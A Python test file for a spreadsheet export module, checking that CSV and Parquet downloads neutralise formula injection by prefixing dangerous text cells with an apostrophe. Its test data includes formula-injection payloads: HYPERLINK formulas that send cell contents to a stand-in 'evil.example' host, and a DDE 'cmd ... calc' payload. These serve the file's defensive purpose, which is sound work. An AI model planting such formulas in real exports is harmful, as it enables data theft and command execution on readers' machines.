"""engine.compare.export: downloads a spreadsheet opens as text, never as a formula (CSV injection).

Oracle: the OWASP rule written out here (a text cell starting with ``=``, ``+``, ``-``, ``@``,
tab or carriage return gets a leading apostrophe), checked on what a reader of the downloaded
bytes sees (pandas.read_csv / read_parquet), not on the frame the module hands back.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from engine.compare.export import safe_frame, to_csv, to_parquet

DANGEROUS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
             '=HYPERLINK("http://evil.example/?x="&A1,"click")', "-", "=", "@"]
HARMLESS = ["MLP as ONNX", "digits_logreg.skops", "a=b", "1-2", "x+y", " =not first", "", "'quoted"]


def _frame() -> pd.DataFrame:
    n = len(DANGEROUS) + len(HARMLESS)
    return pd.DataFrame({
        "model": DANGEROUS + HARMLESS,
        "accuracy": np.linspace(0.5, 0.99, n),
        "accuracy_diff": np.linspace(-0.25, 0.25, n),  # negative numbers: numbers, not formulas
        "n_folds": np.arange(n, dtype=np.int64) - 3,   # negative ints too
    })


def _expected_text(value: str) -> str:
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def test_text_cells_starting_a_formula_get_an_apostrophe_others_are_unchanged():
    frame = _frame()
    out = safe_frame(frame)
    for before, after in zip(frame["model"], out["model"], strict=True):
        assert after == _expected_text(before), (before, after)
    for value in DANGEROUS:
        assert _expected_text(value).startswith("'")
    assert frame["model"].iloc[0] == "=1+1"  # a copy: the caller's frame is not changed


def test_numbers_stay_numbers_including_negative_ones():
    frame = _frame()
    out = safe_frame(frame)
    for col in ("accuracy", "accuracy_diff", "n_folds"):
        assert pd.api.types.is_numeric_dtype(out[col]), col
        np.testing.assert_array_equal(out[col].to_numpy(), frame[col].to_numpy())
    assert (out["accuracy_diff"] < 0).any() and (out["n_folds"] < 0).any()


def test_numbers_inside_a_text_column_are_not_turned_into_text():
    frame = pd.DataFrame({"mixed": [-0.5, "=1+1", 3, None, "-2 points"]})
    out = safe_frame(frame)
    assert out["mixed"].iloc[0] == -0.5 and isinstance(out["mixed"].iloc[0], float)
    assert out["mixed"].iloc[1] == "'=1+1"
    assert out["mixed"].iloc[2] == 3
    assert out["mixed"].iloc[3] is None
    assert out["mixed"].iloc[4] == "'-2 points"  # text that starts with '-' is still text


def test_column_names_are_neutralised():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [1.0], "@user": ["x"], "-delta": [-1.0], "plain": [2]})
    out = safe_frame(frame)
    assert list(out.columns) == ["'=cmd|' /C calc'!A0", "'@user", "'-delta", "plain"]
    assert frame.columns[0] == "=cmd|' /C calc'!A0"


def test_csv_round_trip_shows_the_apostrophe_and_keeps_numbers_numeric():
    frame = _frame()
    back = pd.read_csv(io.BytesIO(to_csv(frame)), keep_default_na=False)
    assert list(back.columns) == list(frame.columns)
    for before, after in zip(frame["model"], back["model"], strict=True):
        assert after == _expected_text(before), (before, after)
    assert pd.api.types.is_float_dtype(back["accuracy_diff"])
    np.testing.assert_allclose(back["accuracy_diff"], frame["accuracy_diff"], rtol=0, atol=1e-15)
    assert pd.api.types.is_integer_dtype(back["n_folds"])
    np.testing.assert_array_equal(back["n_folds"], frame["n_folds"])


def test_csv_bytes_never_start_a_cell_with_a_formula_character():
    raw = to_csv(_frame()).decode("utf-8")
    back = pd.read_csv(io.StringIO(raw), dtype=str, keep_default_na=False)
    for value in back["model"]:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), repr(value)


def test_hyperlink_model_name_is_neutralised_in_a_comparison_like_table():
    name = '=HYPERLINK("http://evil.example/steal?d="&B2,"Details")'
    table = pd.DataFrame({"run_id": ["0123456789abcdef", "fedcba9876543210"], "label": [name, "MLP"],
                          "accuracy": [0.97, 0.95], "accuracy_diff": [0.0, -0.02]})
    back = pd.read_csv(io.BytesIO(to_csv(table)))
    assert back["label"].tolist() == ["'" + name, "MLP"]
    assert back["run_id"].tolist() == ["0123456789abcdef", "fedcba9876543210"]
    assert back["accuracy_diff"].tolist() == [0.0, -0.02]


@pytest.mark.parametrize("dtype", ["object", "string", "category"])
def test_every_text_dtype_is_neutralised(dtype):
    frame = pd.DataFrame({"label": pd.Series(["=1+1", "ok", "@x"], dtype=dtype)})
    back = pd.read_csv(io.BytesIO(to_csv(frame)))
    assert back["label"].tolist() == ["'=1+1", "ok", "'@x"]


def test_parquet_export_is_neutralised_and_keeps_types():
    frame = _frame()
    back = pd.read_parquet(io.BytesIO(to_parquet(frame)))
    assert list(back.columns) == list(frame.columns)
    assert back["model"].tolist() == [_expected_text(v) for v in frame["model"]]
    assert pd.api.types.is_float_dtype(back["accuracy_diff"])
    np.testing.assert_array_equal(back["accuracy_diff"].to_numpy(), frame["accuracy_diff"].to_numpy())
    assert pd.api.types.is_integer_dtype(back["n_folds"])
    np.testing.assert_array_equal(back["n_folds"].to_numpy(), frame["n_folds"].to_numpy())


def test_parquet_column_names_are_neutralised():
    back = pd.read_parquet(io.BytesIO(to_parquet(pd.DataFrame({"=x": ["+y"], "ok": [1.5]}))))
    assert list(back.columns) == ["'=x", "ok"]
    assert back.iloc[0].tolist() == ["'+y", 1.5]


# regression: to_csv once wrote a cell holding a bare CR unquoted (QUOTE_MINIMAL quotes only the
# line terminator), so readers split the row there and '=1+1' started a new row's first cell
@pytest.mark.parametrize("value", ["\r=1+1", "ok\r=1+1", "MLP\r@SUM(A1:A9)"])
def test_csv_cell_with_a_carriage_return_stays_one_cell(value):
    raw = to_csv(pd.DataFrame({"model": [value, "b"], "accuracy": [0.9, 0.8]})).decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 3, rows  # header + 2 rows: the CR did not start a new row
    assert rows[1] == [_expected_text(value), "0.9"]
    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), rows
